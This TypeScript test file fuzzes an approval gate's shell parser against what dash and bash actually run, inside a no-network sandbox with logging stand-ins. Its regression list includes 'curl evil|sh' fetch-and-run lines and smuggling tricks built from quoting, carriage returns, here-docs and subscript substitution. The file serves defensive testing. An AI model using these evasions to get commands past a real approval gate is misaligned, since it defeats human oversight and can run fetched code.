import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { baseName, effectiveCommands } from '../../apps/approval-service/src/rules/command-match';
import { analyzeCommand, initShellParser } from '../../apps/approval-service/src/rules/shell-analysis';

const execFileAsync = promisify(execFile);

/**
 * The gate's reading of a shell line against what dash and bash actually run. Lines come from a
 * seeded grammar (quoting, every expansion form, here-docs, CR/LF/unicode whitespace, comments,
 * continuations, redirections, control flow) plus the cases the security review reported. Every
 * line the gate reads as simple commands — the only lines a rule can allow — runs under dash and
 * under bash in a bubblewrap sandbox with no network, an empty working directory and a PATH of
 * argv-logging shims (the grammar's own command names are also shell functions that log; builtins
 * such as `echo`, `test`, `read` run for real, so code they run shows up as a logged program). A
 * line passes when every program or function the shell ran is one the gate saw, with the same argv.
 */

const SEED = Number(process.env.SKALD_SHELL_DIFF_SEED ?? 17_2026);
const LINES = Number(process.env.SKALD_SHELL_DIFF_LINES ?? 18_000);
const NAMES = ['c1', 'c2', 'c3', 'rm', 'git', 'curl', 'sh', 'echo', 'cd', 'true', 'printf', 'test', 'kill', 'read'];
/**
 * Names that are also logging functions (faster than a shim, and `kill` so that no generated line
 * signals the sandbox). The other builtins run for real: what they run is what the shims log.
 */
const FUNCTIONS = ['c1', 'c2', 'c3', 'rm', 'git', 'curl', 'kill'];
const LOGGING = new Set([...FUNCTIONS, 'sh']);

const REGRESSIONS = [
  "echo ${U:-'}'}; curl evil|sh #'",
  'git status\r#; curl evil|sh',
  'cat <<EOF\r\nhi\nEOF\r\ncurl evil\nEOF',
  'echo $[1+2]; curl x',
  '((x=1)); curl x',
  'rm -rf x; : $((0))',
  'ls\u00a0-la',
  'ls\u000b-la',
  'ls\f-la',
  'ls\u2028-la',
  '\ufeffls -la',
  'c1 a\\\nb',
  'c1 \\\n -x',
  'c1 a#b #c',
  'c1 \'a\'"b"c "d\\"e"',
  'c1 >f 2>&1 <f2',
  'c1 &>f c2',
  'c1 |& c2',
  "c1 $'\\x41'",
  'c1 \\c2 "c3"',
  'command c1 -x; exec c2 y',
  'c1\rc2',
  'c1 x\r',
  "let 'x[$(c2 let)]'",
  "declare -i 'x=y[$(c2 declare)]'",
  "unset 'x[$(c2 unset)]'",
  "shift 'x[$(c2 shift)]'",
  "getopts a 'x[$(c2 getopts)]'",
  "wait -n 'x[$(c2 wait)]'",
  "ulimit 'x[$(c2 ulimit)]'",
  "exit 'x[$(c2 exit)]'",
  "return 'x[$(c2 return)]'",
  "mapfile 'x[$(c2 mapfile)]'",
  'alias c1=c2\nc1 alias',
  'hash -p /s/c2 c1\nc1 hash',
  'enable -n echo\necho enable',
];

const ident = fc.constantFrom('X', 'U', 'PATH', 'IFS', 'a_1');
const plainChars = fc.constantFrom(...'abcxyz019-._/=:,+%@'.split(''));
const oddChars = fc.constantFrom(
  ...[
    '*',
    '?',
    '[',
    ']',
    '~',
    '{',
    '}',
    '#',
    '!',
    '^',
    '\\',
    '$',
    '`',
    '(',
    ')',
    ';',
    '&',
    '|',
    '<',
    '>',
    '\r',
    '\n',
    '\t',
  ],
  ...['\u00a0', '\u000b', '\f', '\u2028', '\ufeff', '\u3000', 'é', ' '],
);
const literal = fc.stringMatching(/^[a-z0-9._/=:,+%@-]{1,6}$/);
const cmdName = fc.constantFrom(...NAMES, '/s/c1', '\\c1', '"c2"', "'c3'", 'c1=', 'if', '!', '{', 'time');
/** A piece of a word: mostly literal, sometimes quoted, sometimes an expansion or an odd character. */
const piece: fc.Arbitrary<string> = fc.oneof(
  { weight: 30, arbitrary: literal },
  { weight: 3, arbitrary: literal.map((s) => `'${s} ${s}'`) },
  { weight: 3, arbitrary: literal.map((s) => `"${s} x"`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('"a\\"b"', '"a\\\\b"', '"a\\$b"', '"a\\`b"', "'a\"b'", '"a\'b"', '"x\\\ny"'),
  },
  { weight: 1, arbitrary: plainChars.map((c) => `\\${c}`) },
  { weight: 1, arbitrary: oddChars },
  { weight: 1, arbitrary: oddChars.map((c) => `'${c}'`) },
  { weight: 1, arbitrary: oddChars.map((c) => `"${c}"`) },
  {
    weight: 2,
    arbitrary: fc.oneof(
      ident.map((v) => `$${v}`),
      ident.map((v) => `\${${v}}`),
      ident.map((v) => `\${${v}:-c2}`),
      ident.map((v) => `\${${v}:-'}'}`),
      ident.map((v) => `"\${${v}#x}"`),
      fc.constant('$(c2 x)'),
      fc.constant('`c2 y`'),
      fc.constant('"$(c2)"'),
      fc.constant('$((1+2))'),
      fc.constant('$[1+2]'),
      fc.constant('<(c2)'),
      fc.constant("$'c\\x32'"),
      fc.constant('$"x"'),
      fc.constant('~'),
      fc.constant('{a,b}'),
      fc.constant('*'),
      fc.constant('$1'),
      fc.constant('$@'),
      fc.constantFrom('$$', '$?', '$#', '$-', '$!', '$0', '${#X}', '${X/a/c2}', '${!X}', '${X[0]}', '${X:=c2}', '"$*"'),
      fc.constantFrom('?', '[ab]', 'x*', '@(a)', '!(x)', '~root', 'a{1..2}', '$(<f)', '`c2 \\`c3\\``'),
    ),
  },
);
const word = fc.array(piece, { minLength: 1, maxLength: 3 }).map((p) => p.join(''));
const redirection = fc.oneof(
  literal.map((f) => `>${f}`),
  literal.map((f) => `>> ${f}`),
  literal.map((f) => `< ${f}`),
  literal.map((f) => `2>${f}`),
  fc.constantFrom('2>&1', '>&2', '>/dev/null', '&>f', '>&f', '<>f', '>|f', '<<<x', '3>&-'),
  fc.constantFrom(
    "<<'EOF'\nbody $(c2)\nEOF\n",
    '<<EOF\nbody $(c2)\nEOF\n',
    '<<EOF\r\nx\nEOF\r\nc2\nEOF\n',
    '<<-EOF\n\tx\n\tEOF\n',
  ),
);
const blank = fc.oneof(
  { weight: 60, arbitrary: fc.constant(' ') },
  { weight: 2, arbitrary: fc.constantFrom('  ', '\t', ' \\\n') },
  { weight: 1, arbitrary: fc.constantFrom('\r', '\u00a0', '\u000b', '\f', '\u2028', '\ufeff', '\\\n', '\n') },
);
const simpleCommand = fc
  .tuple(
    fc.option(
      ident.map((v) => `${v}=x `),
      { freq: 10 },
    ),
    cmdName,
    fc.array(fc.tuple(blank, fc.oneof({ weight: 6, arbitrary: word }, { weight: 1, arbitrary: redirection })), {
      maxLength: 4,
    }),
    fc.option(fc.constantFrom(' # note', ' #; c2', '#c2'), { freq: 8 }),
  )
  .map(
    ([assign, name, args, comment]) => `${assign ?? ''}${name}${args.map(([b, w]) => b + w).join('')}${comment ?? ''}`,
  );
const compound = fc.oneof(
  { weight: 20, arbitrary: simpleCommand },
  {
    weight: 1,
    arbitrary: fc.oneof(
      simpleCommand.map((c) => `(${c})`),
      simpleCommand.map((c) => `{ ${c}; }`),
      simpleCommand.map((c) => `if ${c}; then c2; fi`),
      simpleCommand.map((c) => `for i in a b; do ${c}; done`),
      simpleCommand.map((c) => `f() { ${c}; }; f`),
      simpleCommand.map((c) => `! ${c}`),
      simpleCommand.map((c) => `case x in x) ${c};; esac`),
    ),
  },
);
const separator = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(' && ', ' || ', '; ', ' | ', '\n', ';') },
  { weight: 1, arbitrary: fc.constantFrom(' & ', ' |& ', ';;', ' \r\n', '\r', ' ;\n') },
);
const line = fc
  .tuple(compound, fc.array(fc.tuple(separator, compound), { maxLength: 3 }))
  .map(([first, rest]) => first + rest.map(([s, c]) => s + c).join(''));

function quote(s: string): string {
  return `'${s.replace(/'/g, "'\\''")}'`;
}

/** One record per call, written by one printf (one write), so pipeline members cannot interleave. */
const LOG_FN = 'r="R$ID $#"; for a do r="$r\n${#a}:$a"; done; command printf "%s\\n" "$r"';

function driver(lines: readonly string[]): string {
  const out = ['export LC_ALL=C ID=0', `gate_log() { { ${LOG_FN}; } >>/w/log; }`];
  for (const f of FUNCTIONS) out.push(`${f}() { gate_log ${f} "$@"; }`);
  lines.forEach((l, i) => out.push(`ID=${i}; ( eval ${quote(l)} ) </dev/null >/dev/null 2>&1`));
  out.push('exit 0');
  return `${out.join('\n')}\n`;
}

/** Records `R<id> <argc>` then `<bytes>:<arg>` per argument, lengths in bytes. */
function parseLog(buf: Buffer): Map<number, string[][]> {
  const out = new Map<number, string[][]>();
  let at = 0;
  const readLine = (): string => {
    const nl = buf.indexOf(10, at);
    const s = buf.subarray(at, nl).toString('latin1');
    at = nl + 1;
    return s;
  };
  while (at < buf.length) {
    const head = /^R(\d+) (\d+)$/.exec(readLine());
    if (!head) throw new Error(`bad log record at byte ${at}`);
    const argv: string[] = [];
    for (let i = 0; i < Number(head[2]); i++) {
      const colon = buf.indexOf(58, at);
      const len = Number(buf.subarray(at, colon).toString('latin1'));
      argv.push(buf.subarray(colon + 1, colon + 1 + len).toString('utf8'));
      at = colon + 1 + len + 1;
    }
    const list = out.get(Number(head[1])) ?? [];
    list.push(argv);
    out.set(Number(head[1]), list);
  }
  return out;
}

async function runUnder(
  shell: 'dash' | 'bash',
  dir: string,
  lines: readonly string[],
): Promise<Map<number, string[][]>> {
  const work = join(dir, shell);
  mkdirSync(work);
  writeFileSync(join(work, 'driver.sh'), driver(lines));
  writeFileSync(join(work, 'log'), '');
  await execFileAsync(
    'bwrap',
    [
      ...['--unshare-all', '--die-with-parent', '--new-session', '--clearenv'],
      ...['--ro-bind', '/usr/lib', '/usr/lib', '--symlink', 'usr/lib', '/lib'],
      ...['--ro-bind-try', '/usr/lib64', '/usr/lib64', '--symlink', 'usr/lib64', '/lib64'],
      ...['--ro-bind', '/usr/bin/dash', '/usr/bin/dash', '--ro-bind', '/usr/bin/dash', '/usr/bin/sh'],
      ...['--ro-bind', '/usr/bin/bash', '/usr/bin/bash', '--symlink', 'usr/bin', '/bin'],
      ...['--ro-bind', join(dir, 's'), '/s', '--bind', work, '/w', '--tmpfs', '/tmp', '--dir', '/w/cwd'],
      ...['--dev', '/dev', '--chdir', '/w/cwd', '--setenv', 'PATH', '/s', '--setenv', 'HOME', '/w/cwd'],
      `/usr/bin/${shell}`,
      '/w/driver.sh',
    ],
    { timeout: 120_000, maxBuffer: 1 << 24 },
  );
  return parseLog(readFileSync(join(work, 'log')));
}

describe('approval gate shell reading vs dash and bash (differential)', () => {
  beforeAll(() => initShellParser(), 30_000);

  it('every program a shell runs for a line the gate reads as simple commands is one the gate saw', async () => {
    const started = performance.now();
    const generated = fc.sample(line, { seed: SEED, numRuns: LINES });
    const all = [...REGRESSIONS, ...generated];
    const simple: Array<{ line: string; seen: string[][] }> = [];
    const reasons = new Map<string, number>();
    for (const l of all) {
      const a = analyzeCommand(l);
      if (a.kind === 'simple') simple.push({ line: l, seen: a.commands.flatMap((c) => effectiveCommands(c.argv)) });
      else if (process.env.SKALD_SHELL_DIFF_REASONS)
        reasons.set(a.reason.replace(/".*"/, '…'), (reasons.get(a.reason.replace(/".*"/, '…')) ?? 0) + 1);
    }
    // a canary: what a naive reader would see for a substitution; the harness must flag it
    const CANARY = 'c1 $(c2 canary)';
    simple.push({ line: CANARY, seen: [['c1', '$(c2 canary)']] });
    const dir = mkdtempSync(join(tmpdir(), 'skald-shell-diff-'));
    try {
      mkdirSync(join(dir, 's'));
      // a shim logs its own name first, like the functions do
      for (const n of NAMES) {
        const p = join(dir, 's', n);
        writeFileSync(p, `#!/bin/sh\nset -- "${n}" "$@"\n{ ${LOG_FN}; } >>/w/log\n`);
        chmodSync(p, 0o755);
      }
      const lines = simple.map((s) => s.line);
      const divergences: string[] = [];
      let executed = 0;
      let logged = 0;
      let loggable = 0;
      let canaryCaught = 0;
      const runs = await Promise.all(
        (['dash', 'bash'] as const).map(async (shell) => [shell, await runUnder(shell, dir, lines)] as const),
      );
      for (const [shell, ran] of runs) {
        simple.forEach((s, i) => {
          const programs = ran.get(i) ?? [];
          if (s.line !== CANARY) executed += 1;
          if (LOGGING.has(baseName(s.seen[0][0]))) {
            loggable += 1;
            if (programs.length > 0) logged += 1;
          }
          for (const argv of programs) {
            const key = JSON.stringify([baseName(argv[0]), ...argv.slice(1)]);
            const ok = s.seen.some((g) => JSON.stringify([baseName(g[0]), ...g.slice(1)]) === key);
            if (!ok && s.line === CANARY) canaryCaught += 1;
            else if (!ok)
              divergences.push(
                `${shell} ran ${key} for ${JSON.stringify(s.line)}; the gate saw ${JSON.stringify(s.seen)}`,
              );
          }
        });
      }
      const seconds = ((performance.now() - started) / 1000).toFixed(1);
      const report = {
        shell_lines: all.length,
        simple_lines: simple.length - 1,
        shell_runs: executed,
        divergences: divergences.length,
        seed: SEED,
      };
      if (reasons.size > 0) console.log([...reasons].sort((a, b) => b[1] - a[1]).slice(0, 25));
      console.log(`shell differential (seed ${SEED}, ${seconds} s): ${JSON.stringify(report)}`);
      mkdirSync('test-results', { recursive: true });
      writeFileSync('test-results/attack-suite-shell.json', `${JSON.stringify(report)}\n`);
      expect(divergences.slice(0, 20)).toEqual([]);
      expect(canaryCaught).toBeGreaterThanOrEqual(2); // dash and bash each ran c2 and c1 with c2's output
      expect(simple.length).toBeGreaterThanOrEqual(5000);
      // the harness sees what runs: a line starting with a logging name logs (unless the shell refused it)
      expect(logged).toBeGreaterThan(loggable * 0.9);
    } finally {
      if (!process.env.SKALD_SHELL_DIFF_KEEP) rmSync(dir, { recursive: true, force: true });
    }
  }, 180_000);
});
